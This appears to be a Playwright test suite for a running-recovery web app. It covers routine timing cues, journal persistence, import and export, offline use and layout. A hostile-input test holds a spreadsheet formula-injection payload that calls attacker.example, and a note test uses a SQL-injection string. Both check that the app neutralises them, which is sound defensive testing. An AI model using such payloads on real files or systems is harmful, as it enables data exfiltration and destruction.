// Unknot as a person uses it: journeys in Chromium with a phone viewport (390×844, touch), against the real
// web build (scripts/build-web.sh). Time is driven with Playwright's fake clock, so a 5-minute routine runs
// in seconds and every cue can be checked against its planned second. Screenshots of the main screens are
// written to screenshots/ (look at them).
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { chromium } from "playwright-core";
import { serve, launch, launchPersistent, CHROMIUM_ARGS, PHONE, RECORDER, ROOT, FEEL, felt, heard, routineSteps, expectedCues } from "./lib.mjs";

const SHOTS = path.join(ROOT, "screenshots");
fs.mkdirSync(SHOTS, { recursive: true });
const T0 = new Date("2026-11-20T18:00:00Z").getTime();

let server, browser;
before(async () => {
  server = await serve();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
});

async function newPage({ clock = true } = {}) {
  const context = await browser.newContext(PHONE);
  await context.addInitScript(RECORDER);
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e));
  if (clock) await page.clock.install({ time: T0 });
  await page.goto(server.url + "/");
  await acceptSafety(page);
  // From here on the fake clock moves only when the test says so (runFor), so every cue can be checked to
  // the millisecond; the margin leaves the page's start-up timers behind.
  if (clock) await page.clock.pauseAt(T0 + 60_000);
  return { context, page, errors };
}

async function acceptSafety(page) {
  const gate = page.getByRole("button", { name: "I understand" });
  await gate.waitFor();
  await page.screenshot({ path: path.join(SHOTS, "first-start-safety.png") });
  await gate.tap();
  await page.getByRole("heading", { name: "Unknot" }).waitFor();
}

/** A tab in the bottom bar. */
const tab = (page, name) => page.getByRole("navigation", { name: "Main" }).getByRole("link", { name });
const shot = (page, name) => page.screenshot({ path: path.join(SHOTS, `${name}.png`) });
const cues = (page) => page.evaluate(() => window.__cues);

test("(a) Library → a technique's page", async () => {
  const { page, context, errors } = await newPage({ clock: false });
  await shot(page, "home");
  await tab(page, "Library").tap();
  await page.getByRole("heading", { name: "Library" }).waitFor();
  await shot(page, "library");
  await page.getByRole("link", { name: /Petrissage/ }).first().tap();
  await page.getByRole("heading", { name: "Petrissage", level: 1 }).waitFor();
  for (const h of ["What it is", "How it feels", "Why runners use it", "Where on a runner", "Cautions"]) {
    await page.getByRole("heading", { name: h }).waitFor();
  }
  await shot(page, "technique-petrissage");
  assert.deepEqual(errors, []);
  await context.close();
});

test("(b) tennis-ball routine runs by itself with the right cue at the right second, felt and heard; pause freezes it", async () => {
  const { page, context, errors } = await newPage();
  // Turn on the pace cue (one soft mark per stroke, felt and heard).
  await tab(page, "Settings").tap();
  await page.getByRole("group", { name: "Pace cue" }).getByRole("button", { name: "Both" }).tap();
  await tab(page, "Routines").tap();
  await page.getByRole("button", { name: "Tennis ball" }).tap();
  await shot(page, "routines-tennis-ball");
  const names = await page.locator(".routine-name").allTextContents();
  assert.ok(names.length >= 3 && names.includes("Calves with a tennis ball"), names.join(", "));
  await page.getByRole("link", { name: /Calves with a tennis ball/ }).tap();
  await page.getByRole("heading", { name: "Calves with a tennis ball" }).waitFor();
  await shot(page, "routine-detail");
  await page.getByRole("button", { name: "Start Calves with a tennis ball" }).tap();
  await page.getByText("Get ready").waitFor();

  const steps = routineSteps("calves-ball");
  const plan = expectedCues(steps, { pace: true });
  const timer = page.getByRole("timer");
  const screen = async () => ({
    label: await page.locator(".segment-label").textContent(),
    remaining: Number((await timer.getAttribute("aria-label")).split(" ")[0]),
    next: (await page.locator(".next-up").count()) ? await page.locator(".next-up").textContent() : "",
  });

  // t = 0: get-ready countdown, first step next, the screen is kept awake.
  let s = await screen();
  assert.equal(s.label, "Get ready");
  assert.equal(s.remaining, 10);
  assert.match(s.next, new RegExp(`${steps[0].title} \\(left side\\)`));
  await shot(page, "player-get-ready");

  // Drive the clock through the routine, checking the screen at several points.
  const checks = [
    { at: 4_500, label: "Get ready", remaining: 6 },
    { at: 40_500, label: steps[0].title, remaining: 30, next: "Right side" },
    { at: 72_000, label: "Switch sides", remaining: 3 },
    { at: 136_000, label: "Rest", remaining: 4 },
    { at: 150_000, label: steps[1].title, remaining: 35 },
  ];
  let now = 0;
  for (const c of checks) {
    await page.clock.runFor(c.at - now);
    now = c.at;
    s = await screen();
    assert.equal(s.label, c.label, `label at ${c.at} ms`);
    assert.equal(s.remaining, c.remaining, `remaining at ${c.at} ms`);
    if (c.next) assert.match(s.next, new RegExp(c.next));
    if (c.at === 40_500) await shot(page, "player-work");
    if (c.at === 72_000) await shot(page, "player-switch");
  }

  // Pause for five minutes of clock time: nothing advances, no cue plays.
  await page.getByRole("button", { name: "Pause" }).tap();
  const before = (await cues(page)).length;
  const frozen = await screen();
  await page.clock.runFor(300_000);
  assert.deepEqual(await screen(), frozen);
  assert.equal((await cues(page)).length, before, "a cue played while paused");
  await page.getByText("Paused").waitFor();
  await shot(page, "player-paused");
  await page.getByRole("button", { name: "Resume" }).tap();
  await page.clock.runFor(1000);
  now += 1000;
  s = await screen();
  assert.equal(s.remaining, frozen.remaining - 1, "resume did not continue from the same second");

  // Run to the end.
  await page.clock.runFor(plan.total - now + 500);
  await page.getByRole("heading", { name: "Done" }).waitFor();
  await shot(page, "player-done");

  // The exact sequence of cues, on every channel, each on its planned millisecond: felt as the W3C
  // Vibration API plays the recorded calls, heard at the scheduled audio time plus the output latency.
  const recorded = await cues(page);
  const start = recorded.find((e) => e.type === "wake").t; // the Start tap's task: the session's instant 0
  const pauseGap = 300_000;
  const due = (c) => start + c.at + (c.at > 150_000 ? pauseGap : 0);
  const feel = felt(recorded);
  assert.deepEqual(feel.map((e) => e.shape), plan.cues.map((c) => FEEL[c.cue]), "what is felt, cue by cue");
  for (const [i, c] of plan.cues.entries()) {
    assert.ok(Math.abs(feel[i].t - due(c)) <= 1, `vibration ${i} (${c.cue}) felt at ${feel[i].t - start}, planned ${c.at}`);
  }
  const sound = heard(recorded);
  assert.deepEqual(sound.map((e) => e.cue), plan.cues.map((c) => c.cue), "what is heard, cue by cue");
  const latency = await page.evaluate(() => new AudioContext().outputLatency * 1000);
  for (const [i, c] of plan.cues.entries()) {
    const late = sound[i].t - latency - due(c);
    assert.ok(Math.abs(late) <= 1, `sound ${i} (${c.cue}) heard at ${sound[i].t - start} (${latency} ms output latency), planned ${c.at}`);
  }
  assert.ok(plan.cues.filter((c) => c.cue === "pace").length >= 20, "the pace cue marks the strokes");
  // Spoken guidance: the step and side at each start, the side to switch to, the end.
  const said = recorded.filter((e) => e.type === "say").map((e) => e.text);
  const expectedSaid = [];
  for (const g of plan.segs) {
    if (g.kind === "switch") expectedSaid.push("Switch to the right side.");
    if (g.kind !== "work") continue;
    const sideOf = steps[g.step].sided ? (plan.segs.indexOf(g) > 0 && plan.segs[plan.segs.indexOf(g) - 1].kind === "switch" ? "right" : "left") : null;
    expectedSaid.push(sideOf ? `${steps[g.step].title}, ${sideOf} side.` : `${steps[g.step].title}.`);
  }
  expectedSaid.push("Session complete.");
  assert.deepEqual(said, expectedSaid, "spoken guidance");
  // Wake lock taken once at start, released at the end.
  const wake = recorded.filter((e) => e.type.startsWith("wake")).map((e) => e.type);
  assert.deepEqual(wake, ["wake", "wake-release"]);
  assert.deepEqual(errors, []);
  await context.close();
});

async function runRoutineToDone(page, id, name) {
  await page.goto(`${page.url().split("/").slice(0, 3).join("/")}/routines/${id}`);
  await page.getByRole("button", { name: `Start ${name}` }).tap();
  await page.getByText("Get ready").waitFor();
  const plan = expectedCues(routineSteps(id));
  await page.clock.runFor(plan.total + 500);
  await page.getByRole("heading", { name: "Done" }).waitFor();
  // The session is over: let time flow normally again.
  await page.clock.resume();
}

test("(c) after Done, log a note; it survives a reload and a browser restart", async () => {
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), "unknot-profile-"));
  let context = await launchPersistent(profile);
  await context.addInitScript(RECORDER);
  let page = context.pages()[0] ?? (await context.newPage());
  await page.clock.install({ time: T0 });
  await page.goto(server.url + "/");
  await acceptSafety(page);
  await page.clock.pauseAt(T0 + 60_000);
  await runRoutineToDone(page, "hamstrings-roller", "Hamstrings on the foam roller");
  await page.getByRole("link", { name: "Log how you feel" }).tap();
  await page.getByRole("heading", { name: "How do you feel?" }).waitFor();
  await page.getByLabel("Hamstrings soreness, 0 to 10").fill("6");
  await page.getByRole("radio", { name: /4 of 5/ }).tap();
  await page.getByLabel("RPE 1–10").fill("7");
  const text = "Tempo run 🏃 — שלום <b>tight</b> '; DROP TABLE notes; --";
  await page.getByLabel("Note").fill(text);
  await shot(page, "log-form");
  await page.getByRole("button", { name: "Save note" }).tap();
  await page.getByText("Feel 4/5 · Good").waitFor();
  await page.getByText(text).waitFor();
  await shot(page, "note-detail");
  // Writes reach IndexedDB asynchronously after commit: give them real time.
  await page.clock.runFor(2000);
  await page.waitForTimeout(1500);

  await page.reload();
  await tab(page, "Journal").tap();
  await page.getByText(text).waitFor();
  await page.getByText("Sorest: Hamstrings 6/10").waitFor();
  await shot(page, "journal");
  await context.close();

  context = await launchPersistent(profile);
  page = context.pages()[0] ?? (await context.newPage());
  await page.goto(server.url + "/journal");
  await page.getByText(text).waitFor();
  // The safety notes were acknowledged before the restart: not shown again.
  assert.equal(await page.getByRole("button", { name: "I understand" }).count(), 0);
  await context.close();
  fs.rmSync(profile, { recursive: true, force: true });
});

test("(d) export, then import the file: nothing duplicated; wipe and import brings everything back", async () => {
  const { page, context } = await newPage({ clock: false });
  for (const [feel, calves] of [[2, "7"], [4, "3"]]) {
    await page.goto(server.url + "/journal/log");
    await page.getByLabel("Add an area").selectOption("calves");
    await page.getByLabel("Calves soreness, 0 to 10").fill(calves);
    await page.getByRole("radio", { name: new RegExp(`${feel} of 5`) }).tap();
    await page.getByRole("button", { name: "Save note" }).tap();
    await page.getByText(`Feel ${feel}/5`).waitFor();
  }
  await tab(page, "Settings").tap();
  await page.getByText("2 notes").waitFor();
  await shot(page, "settings");
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export JSON" }).tap()]);
  const file = path.join(os.tmpdir(), `unknot-export-${process.pid}.json`);
  await download.saveAs(file);
  const exported = JSON.parse(fs.readFileSync(file, "utf8"));
  assert.equal(exported.format, "unknot-journal");
  assert.equal(exported.notes.length, 2);

  await page.getByLabel("Import a journal file").setInputFiles(file);
  await page.getByText("0 added, 0 updated, 2 skipped").waitFor();
  await page.getByText("2 notes").waitFor();

  await page.getByRole("button", { name: "Delete all journal data" }).tap();
  await page.getByRole("button", { name: "Delete everything" }).tap();
  await page.getByText("0 notes").waitFor();
  await page.getByLabel("Import a journal file").setInputFiles(file);
  await page.getByText("2 added, 0 updated, 0 skipped").waitFor();
  await tab(page, "Journal").tap();
  assert.equal(await page.locator(".note-card").count(), 2);

  // A broken file changes nothing and says why.
  fs.writeFileSync(file, JSON.stringify({ ...exported, notes: [{ ...exported.notes[0], id: "new", feel: 9 }] }));
  await tab(page, "Settings").tap();
  await page.getByLabel("Import a journal file").setInputFiles(file);
  await page.getByText(/Import failed, nothing was changed: notes\[0\]: feel must be 1–5 \(got 9\)/).waitFor();
  await page.getByText("2 notes").waitFor();
  fs.rmSync(file);
  await context.close();
});

test("(e) bad input in the log form shows its message and saves nothing", async () => {
  const { page, context } = await newPage({ clock: false });
  await page.goto(server.url + "/journal/log");
  await page.getByLabel("Add an area").selectOption("quads");
  await page.getByLabel("Quads soreness, 0 to 10").fill("12");
  await page.getByLabel("RPE 1–10").fill("11");
  await page.getByLabel("Note").fill("x".repeat(10_001));
  await page.getByRole("button", { name: "Save note" }).tap();
  const alert = page.getByRole("alert");
  await alert.getByText("Soreness for quads must be 0–10 (got 12).").waitFor();
  await alert.getByText("Run effort (RPE) must be 1–10 (got 11).").waitFor();
  await alert.getByText(/10001 characters long; the limit is 10000/).waitFor();
  await page.getByText("10001 / 10000 characters").waitFor();
  await shot(page, "log-form-errors");
  await tab(page, "Journal").tap();
  await page.getByText("No notes yet").waitFor();
  await context.close();
});

test("(g) files from other tools and from an attacker: a BOM JSON under any name imports, a date in year 10000 is refused in plain words, CSV cells cannot run formulas", async () => {
  const { page, context, errors } = await newPage({ clock: false });
  await tab(page, "Settings").tap();
  await page.getByText("0 notes").waitFor();
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "unknot-hostile-"));
  const formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
  const note = { id: "from-a-spreadsheet", created_at: "2024-05-01T08:00:00+02:00", updated_at: "2024-05-01T08:00:00+02:00", feel: 4, text: formula, soreness: { calves: 3 } };
  // Saved by a Windows tool: byte-order mark, CRLF, and a name that says nothing about the format.
  const bom = path.join(dir, "backup.txt");
  const json = JSON.stringify({ format: "unknot-journal", version: 1, exported_at: "2024-06-01T12:00:00Z", notes: [note] }, null, 2);
  fs.writeFileSync(bom, "\uFEFF" + json.replace(/\n/g, "\r\n"));
  await page.getByLabel("Import a journal file").setInputFiles(bom);
  await page.getByText("Imported backup.txt: 1 added, 0 updated, 0 skipped.").waitFor();
  await page.getByText("1 notes").waitFor();

  // The file from issue #12: it used to report "1 added" and then break listing, export and delete.
  const far = path.join(dir, "far.json");
  fs.writeFileSync(far, JSON.stringify({ format: "unknot-journal", version: 1, exported_at: "2024-06-01T12:00:00Z",
    notes: [{ id: "x", created_at: "+10000-01-01T00:00:00Z", updated_at: "+10000-01-01T00:00:00Z", feel: 3 }] }));
  await page.getByLabel("Import a journal file").setInputFiles(far);
  await page.getByText(/Import failed, nothing was changed: .*the year 10000 is outside the years 1970 to 2200/).waitFor();
  await page.getByText("1 notes").waitFor();

  // The formula goes out neutralised for spreadsheets, and comes back exactly.
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV" }).tap()]);
  const csvFile = path.join(dir, "export.csv");
  await download.saveAs(csvFile);
  const csv = fs.readFileSync(csvFile, "utf8");
  const cells = csv.split(/[,\r\n]/).map((c) => c.replace(/^"/, ""));
  assert.ok(cells.every((c) => !/^[=+\-@\t\r]/.test(c)), `a spreadsheet would run a cell of:\n${csv}`);
  await page.getByRole("button", { name: "Delete all journal data" }).tap();
  await page.getByRole("button", { name: "Delete everything" }).tap();
  await page.getByText("0 notes").waitFor();
  await page.getByLabel("Import a journal file").setInputFiles(csvFile);
  await page.getByText("1 added, 0 updated, 0 skipped").waitFor();
  await tab(page, "Journal").tap();
  await page.locator(".note-card").getByText(formula).waitFor();
  await shot(page, "journal-after-hostile-import");
  fs.rmSync(dir, { recursive: true, force: true });
  assert.deepEqual(errors, []);
  await context.close();
});

test("(h) opening a session's address on a first start shows the safety notes before anything else", async () => {
  const context = await browser.newContext(PHONE);
  await context.addInitScript(RECORDER);
  const page = await context.newPage();
  await page.goto(server.url + "/session/calves-roller");
  await page.getByRole("dialog", { name: "Before you start" }).waitFor();
  assert.equal(await page.getByRole("timer").count(), 0, "the session must not run behind the safety notes");
  await page.getByRole("button", { name: "I understand" }).tap();
  await page.getByRole("timer").waitFor();
  await context.close();
});

test("(f) every main screen fits a small phone's width (320 px) with no sideways scrolling", async () => {
  const context = await browser.newContext({ ...PHONE, viewport: { width: 320, height: 640 } });
  await context.addInitScript(RECORDER);
  const page = await context.newPage();
  await page.goto(server.url + "/");
  await page.getByRole("button", { name: "I understand" }).tap();
  const paths = ["/", "/routines", "/routines/post-run-lower-body", "/library", "/library/techniques/sports-massage",
    "/library/methods/foam-roller", "/library/safety", "/journal", "/journal/log", "/settings", "/session/outer-thigh-roller"];
  for (const p of paths) {
    await page.goto(server.url + p);
    await page.locator("h1, .segment-label").first().waitFor();
    const [scroll, inner] = await page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth]);
    assert.ok(scroll <= inner, `${p} is ${scroll} px wide in a ${inner} px window`);
  }
  await context.close();
});

test("(i) a session leaves nothing behind: event listeners are the same after the 2nd session as after the 5th", async () => {
  const { page, context, errors } = await newPage();
  const cdp = await context.newCDPSession(page);
  const listeners = async () => {
    await cdp.send("HeapProfiler.collectGarbage");
    return (await cdp.send("Memory.getDOMCounters")).jsEventListeners;
  };
  await tab(page, "Routines").tap();
  await page.getByRole("link", { name: /Calves with a tennis ball/ }).first().tap();
  const start = page.getByRole("button", { name: /^Start / });
  const counts = [];
  for (let i = 1; i <= 5; i++) {
    // In-app navigation only (no reload): the player mounts, runs a few seconds, and unmounts.
    await start.tap();
    await page.getByText("Get ready").waitFor();
    await page.clock.runFor(3000);
    await page.goBack();
    await start.waitFor();
    await page.clock.runFor(1000);
    counts.push(await listeners());
  }
  assert.equal(counts[4], counts[1], `JS event listeners after each session: ${counts.join(", ")}`);
  assert.deepEqual(errors, []);
  await context.close();
});

/** Logs a note from the Journal's form (feel 4 of 5 and `text`) and waits until the app shows it as saved. */
async function logNote(page, text) {
  await page.getByRole("heading", { name: "How do you feel?" }).waitFor();
  await page.getByRole("radio", { name: /4 of 5/ }).tap();
  await page.getByLabel("Note").fill(text);
  await page.getByRole("button", { name: "Save note" }).tap();
  await page.getByText(text).waitFor();
  await page.getByText("Feel 4/5 · Good").waitFor();
}

test("(j) installable, and offline after one visit: reload with no server, run a routine, log a note", async () => {
  const own = await serve();
  const context = await browser.newContext(PHONE);
  await context.addInitScript(RECORDER);
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e));
  await page.clock.install({ time: T0 });
  await page.goto(own.url + "/");
  await acceptSafety(page);
  // The manifest a browser installs from, with icons that load.
  const manifest = await page.evaluate(async () => {
    const m = await (await fetch(document.querySelector("link[rel=manifest]").href)).json();
    const icons = await Promise.all(m.icons.map(async (i) => ({ ...i, ok: (await fetch(i.src)).ok })));
    return { ...m, icons };
  });
  assert.equal(manifest.display, "standalone");
  assert.equal(manifest.start_url, "/");
  assert.ok(manifest.icons.some((i) => i.sizes === "192x192" && i.type === "image/png"), JSON.stringify(manifest.icons));
  assert.ok(manifest.icons.every((i) => i.ok), JSON.stringify(manifest.icons));
  // The service worker has copied the app.
  await page.evaluate(() => navigator.serviceWorker.ready);

  // No network at all from here: the server is gone and the browser is offline.
  await own.close();
  await context.setOffline(true);
  await page.reload();
  await page.getByRole("heading", { name: "Unknot", level: 1 }).waitFor();
  await page.clock.pauseAt(T0 + 120_000);
  await runRoutineToDone(page, "calves-ball", "Calves with a tennis ball");
  await page.getByRole("link", { name: "Log how you feel" }).tap();
  await logNote(page, "Offline, on the track");
  await tab(page, "Journal").tap();
  await page.getByText("Offline, on the track").waitFor();
  assert.deepEqual(errors, []);
  await context.close();
});

/** Chromium as its own process (so the test can kill it), driven over CDP, with a profile kept on disk. */
async function spawnChromium(profile) {
  const { spawn } = await import("node:child_process");
  const net = await import("node:net");
  const port = await new Promise((resolve) => {
    const s = net.createServer().listen(0, "127.0.0.1", () => { const p = s.address().port; s.close(() => resolve(p)); });
  });
  const args = [...CHROMIUM_ARGS, `--user-data-dir=${profile}`, `--remote-debugging-port=${port}`, "about:blank"];
  const child = spawn(process.env.CHROMIUM ?? "/usr/bin/chromium", args, { detached: true, stdio: "ignore" });
  const endpoint = `http://127.0.0.1:${port}`;
  for (let i = 0; ; i++) {
    try { if ((await fetch(`${endpoint}/json/version`)).ok) break; } catch { /* not up yet */ }
    if (i > 200) throw new Error("chromium did not start");
    await new Promise((r) => setTimeout(r, 50));
  }
  const cdp = await chromium.connectOverCDP(endpoint);
  const context = cdp.contexts()[0];
  const page = context.pages()[0] ?? (await context.newPage());
  // SIGKILL to the whole process group: the browser and its renderers die at once, with no chance to flush.
  return { page, kill: () => process.kill(-child.pid, "SIGKILL"), exited: new Promise((r) => child.on("exit", r)) };
}

/** Counts IndexedDB read-write transactions begun and finished (complete, or failed), in window.__idb. */
const IDB_WATCH = `
  window.__idb = { started: 0, done: 0 };
  const transaction = IDBDatabase.prototype.transaction;
  IDBDatabase.prototype.transaction = function (...args) {
    const t = transaction.apply(this, args);
    if (t.mode === "readwrite") {
      window.__idb.started++;
      let ended = false;
      const end = () => { if (!ended) { ended = true; window.__idb.done++; } };
      for (const ev of ["complete", "abort", "error"]) t.addEventListener(ev, end);
    }
    return t;
  };
`;

test("(k) a note shown as saved survives the browser being killed right after", async () => {
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), "unknot-kill-"));
  const texts = Array.from({ length: Number(process.env.UNKNOT_KILLS ?? 3) }, (_, i) => `Kept ${i + 1}`);
  let first = true;
  const pendingAtAck = [];
  for (const text of texts) {
    const b = await spawnChromium(profile);
    await b.page.addInitScript(IDB_WATCH);
    await b.page.goto(server.url + "/journal/log");
    if (first) {
      await b.page.getByRole("button", { name: "I understand" }).click();
      await b.page.goto(server.url + "/journal/log");
      first = false;
    }
    await b.page.getByRole("heading", { name: "How do you feel?" }).waitFor();
    // The browser is killed the moment the app shows the note as saved (the page calls back as soon as the
    // note's page is in the DOM), not when the test next looks; at that moment, no IndexedDB write may still
    // be under way (a kill then could lose it, however fast this machine usually is).
    await b.page.exposeBinding("__acknowledged", (_, pending) => {
      pendingAtAck.push(pending);
      b.kill();
    });
    await b.page.evaluate((text) => {
      new MutationObserver((_, o) => {
        if (document.body.innerText.includes("Feel 4/5 · Good") && document.body.innerText.includes(text)) {
          o.disconnect();
          window.__acknowledged(window.__idb.started - window.__idb.done);
        }
      }).observe(document.body, { subtree: true, childList: true, characterData: true });
    }, text);
    await b.page.getByRole("radio", { name: /4 of 5/ }).click();
    await b.page.getByLabel("Note").fill(text);
    await b.page.getByRole("button", { name: "Save note" }).click().catch(() => { /* killed before it returned */ });
    await b.exited;
  }
  const context = await launchPersistent(profile);
  const page = context.pages()[0] ?? (await context.newPage());
  await page.goto(server.url + "/journal");
  await page.getByRole("heading", { name: "History" }).waitFor();
  assert.deepEqual(pendingAtAck, texts.map(() => 0), "IndexedDB writes still under way when the note was shown as saved");
  for (const text of texts) {
    assert.equal(await page.getByText(text, { exact: true }).count(), 1, `"${text}" was shown as saved, then lost when the browser was killed`);
  }
  await context.close();
  fs.rmSync(profile, { recursive: true, force: true });
});

test("(l) the first frame with content is styled: the app's stylesheet is in the page before its first element", async () => {
  const context = await browser.newContext(PHONE);
  // When the first level-1 heading enters the DOM, is the app's stylesheet already there?
  await context.addInitScript(`
    new MutationObserver((_, o) => {
      const h = document.querySelector("#main h1");
      if (!h) return;
      o.disconnect();
      const rules = [...document.styleSheets].flatMap((s) => [...s.cssRules].map((r) => r.selectorText ?? ""));
      window.__styledAtFirstHeading = rules.some((sel) => sel.includes(".tabbar"));
    }).observe(document, { childList: true, subtree: true });
  `);
  const page = await context.newPage();
  await page.goto(server.url + "/");
  await page.getByRole("button", { name: "I understand" }).waitFor();
  assert.equal(await page.evaluate(() => window.__styledAtFirstHeading), true);
  await context.close();
});
